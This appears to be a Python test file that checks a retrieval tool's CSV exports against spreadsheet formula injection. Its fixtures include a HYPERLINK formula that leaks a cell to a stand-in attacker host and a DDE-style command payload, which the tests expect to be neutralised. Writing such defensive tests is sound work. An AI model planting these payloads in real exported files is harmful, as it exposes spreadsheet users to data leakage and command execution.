"""The lists' CSV downloads (retrieval/explain/tables.py ``lists_csv`` / ``rows_to_csv``, offered by the ask
page) are safe to open in a spreadsheet: an attacker's document id, chunk id or section heading that starts a
formula comes out with a single quote in front; a negative score stays a number."""

from __future__ import annotations

import csv
import io

from retrieval.explain import tables
from retrieval.pipeline.view import TraceView

#: A trace dict as the explanations read it (its typed view).
view = TraceView.from_dict

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1)'


def _trace() -> dict:
    item = {"chunk_id": f"{LEAK}#0", "parent_id": LEAK, "rank": 1, "score": -3.5, "section": "@SUM(1+1)",
            "terms": {"=x": 1.0}}
    plain = {"chunk_id": "doc-2#0", "parent_id": "doc-2", "rank": 2, "score": -4.25}
    return {"lexical": {"score_kind": "bm25", "items": [item, plain]},
            "dense": {"score_kind": "cosine", "items": [{**item, "parent_id": "+cmd|' /C calc'!A0"}]},
            "fused": {"score_kind": "rrf", "items": [{**item, "ranks": {"bm25": 1}, "contributions": {"bm25": 0.016}}]},
            "reranked": {"score_kind": "ltr", "items": []}}


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_formula_id_and_section_are_neutralised_in_every_list_csv() -> None:
    texts = tables.lists_csv(view(_trace()), relevant=[LEAK])
    lexical = _rows(texts["lexical"])
    assert lexical[0]["parent_id"] == "'" + LEAK
    assert lexical[0]["chunk_id"] == "'" + LEAK + "#0"
    assert lexical[0]["section"] == "'@SUM(1+1)"
    assert lexical[0]["relevance"] == "relevant"  # the label is read on the real id, before the export
    assert lexical[0]["score"] == "-3.5" and lexical[1]["score"] == "-4.25"  # numbers stay numbers
    assert lexical[1]["parent_id"] == "doc-2" and lexical[1]["section"] == ""
    assert _rows(texts["dense"])[0]["parent_id"] == "'+cmd|' /C calc'!A0"
    assert _rows(texts["fused"])[0]["parent_id"] == "'" + LEAK
    # the raw line: the score is written unquoted, as a number
    assert texts["lexical"].splitlines()[2].startswith("lexical,2,doc-2#0,doc-2,-4.25,bm25,")


def test_no_cell_of_a_list_csv_starts_a_formula() -> None:
    for text in tables.lists_csv(view(_trace())).values():
        for row in csv.reader(io.StringIO(text)):
            assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in row), row
            assert not any(cell.startswith("-") and not _number(cell) for cell in row), row


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
